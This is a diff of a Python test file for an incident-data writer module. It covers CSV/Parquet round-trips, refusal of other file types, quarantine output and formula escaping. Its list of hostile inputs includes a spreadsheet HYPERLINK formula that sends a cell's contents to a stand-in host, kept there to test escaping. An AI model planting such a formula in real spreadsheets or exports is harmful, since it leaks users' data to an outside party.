@@ -1,4 +1,6 @@
-"""Safe writers: formula escaping round-trips, atomic replacement, path guards."""
+"""Writers (analysis.io): formula escaping round-trips, atomic replacement, path guards;
+canonical files round-trip through load_incidents, quarantines keep every row with its
+reasons, and an output that is neither CSV nor Parquet is refused."""
 
 from __future__ import annotations
 
@@ -10,8 +12,11 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from analysis import io
+from analysis import DataFileError, io, load_incidents, validate_incidents
 from analysis.errors import AnalysisError
+from analysis.io import write_incidents, write_quarantine
+
+from ._rows import frame, good_row
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
@@ -110,3 +115,29 @@ def test_check_paths_refuses_two_outputs_on_one_file(tmp_path):
     with pytest.raises(io.PathClashError, match="same file"):
         io.check_paths([], [("--out", tmp_path / "x.csv"), ("--quarantine", tmp_path / "x.csv")])
     io.check_paths([], [("--out", tmp_path / "a.csv"), ("--quarantine", tmp_path / "b.csv")])
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_incidents_round_trip(tmp_path, suffix):
+    valid = validate_incidents(frame(good_row(), good_row(incident_id="T-0002", killed_best=""))).valid
+    out = write_incidents(valid, tmp_path / "sub" / f"incidents{suffix}")
+    again = load_incidents(out)
+    pd.testing.assert_frame_equal(again, valid, check_like=False)
+    if suffix == ".csv":
+        assert "2022-09-30," in out.read_text()  # ISO dates, no time of day
+
+
+def test_incidents_output_must_be_csv_or_parquet(tmp_path):
+    with pytest.raises(DataFileError, match=r"must end in \.csv or \.parquet"):
+        write_incidents(frame(good_row()), tmp_path / "incidents.xlsx")
+    assert not (tmp_path / "incidents.xlsx").exists()
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_quarantine_keeps_rows_and_reasons(tmp_path, suffix):
+    outcome = validate_incidents(frame(good_row(), good_row(incident_id="B", killed_low="99")))
+    out = write_quarantine(outcome.quarantined, tmp_path / f"q{suffix}")
+    back = pd.read_csv(out, dtype=str) if suffix == ".csv" else pd.read_parquet(out)
+    assert back["incident_id"].tolist() == ["B"]
+    assert back["reasons"].tolist() == ["killed_best: killed_ordered"]
+    assert back["killed_low"].tolist() == ["99"]  # the row as read, as text
